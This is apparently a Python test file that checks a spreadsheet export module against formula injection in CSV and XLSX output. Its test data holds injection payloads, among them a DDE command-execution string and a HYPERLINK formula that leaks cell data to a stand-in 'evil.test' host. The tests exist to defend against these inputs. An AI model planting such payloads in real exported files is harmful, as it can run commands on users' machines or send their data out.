"""What a spreadsheet program finds in the files we write."""

import csv
import io
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from shared.platform.spreadsheets import (
    BYTE_ORDER_MARK,
    MAX_CELL,
    Row,
    neutralized,
    to_csv,
    write_workbook,
)

DANGEROUS = [
    "=1+1",
    "+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff201",
    "\u22121",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.test?"&A1)',
    "Ada,=1+1",
    "Ada;=1+1",
    "Ada\t=1+1",
    "Ada|=1+1",
    'Ada"=1+1',
    "Ada'=1+1",
    "Ada\n=1+1",
    "Ada\r\n=1+1",
    "Ada; =1+1",
]
HARMLESS = [
    "Ada",
    "Smith-Jones",
    "a@b.test",
    "1 + 1",
    "a=b",
    "",
    "O'Neill",
    "2024-01-31",
    "***-**-1",
]


def read_csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


class TestCsv:
    @pytest.mark.parametrize("text", DANGEROUS)
    def test_holds_no_cell_that_begins_like_a_formula(self, text: str) -> None:
        ((cell,),) = read_csv(to_csv([[text]]))

        assert cell != text
        assert cell.replace("'", "") == text.replace("'", "")
        for sign in ',;|\t\n"':
            for part in cell.split(sign):
                assert not part.strip(" \u00a0\u200b\ufeff").startswith(
                    ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\u2212")
                )

    @pytest.mark.parametrize("text", HARMLESS)
    def test_leaves_alone_what_is_none(self, text: str) -> None:
        assert neutralized(text) == text

    def test_keeps_numbers_numbers(self) -> None:
        assert to_csv([[-5, -1.5, 0, 12]]) == b"-5,-1.5,0,12\r\n"

    def test_writes_what_is_not_known_as_nothing_and_truth_as_a_word(self) -> None:
        assert to_csv([[None, True, False]]) == b",true,false\r\n"

    def test_quotes_what_has_separators_quotes_or_lines_in_it(self) -> None:
        row = ["a,b", 'say "hi"', "two\nlines"]

        assert read_csv(to_csv([row])) == [row]

    def test_may_begin_with_the_mark_excel_wants(self) -> None:
        content = BYTE_ORDER_MARK.encode() + to_csv([["Zoë"]])

        assert content.startswith(b"\xef\xbb\xbf")
        assert read_csv(content) == [["Zoë"]]

    @given(st.text(st.characters(blacklist_categories=["Cs"], blacklist_characters="\x00")))
    def test_of_any_text_comes_back_with_nothing_but_apostrophes_added(self, text: str) -> None:
        ((cell, _),) = read_csv(to_csv([[text, "x"]]))

        assert cell.replace("'", "") == text.replace("'", "")
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


class TestAWorkbook:
    def cells(self, folder: Path, *rows: Row) -> list[list[Any]]:
        path = folder / "a.xlsx"
        write_workbook(path, "Clients", rows)
        sheet = openpyxl.load_workbook(path)["Clients"]
        return [list(row) for row in sheet.iter_rows()]

    @pytest.mark.parametrize("text", [each for each in DANGEROUS if "\r" not in each])
    def test_holds_text_as_text_whatever_it_looks_like(self, tmp_path: Path, text: str) -> None:
        ((cell,),) = self.cells(tmp_path, [text])

        assert (cell.data_type, cell.value) == ("s", text)
        assert cell.quotePrefix

    def test_holds_numbers_as_numbers(self, tmp_path: Path) -> None:
        ((negative, nothing, truth),) = self.cells(tmp_path, [-5, None, True])

        assert (negative.data_type, negative.value) == ("n", -5)
        assert (truth.data_type, truth.value) == ("b", True)
        assert nothing.value is None

    def test_holds_no_sign_that_would_damage_it(self, tmp_path: Path) -> None:
        ((cell,),) = self.cells(tmp_path, ["a\x00b\x1bc"])

        assert cell.value == "a\ufffdb\ufffdc"

    def test_cuts_what_is_too_long_for_a_cell(self, tmp_path: Path) -> None:
        ((cell,),) = self.cells(tmp_path, ["x" * (MAX_CELL + 1)])

        assert len(str(cell.value)) == MAX_CELL
        assert str(cell.value).endswith("…")
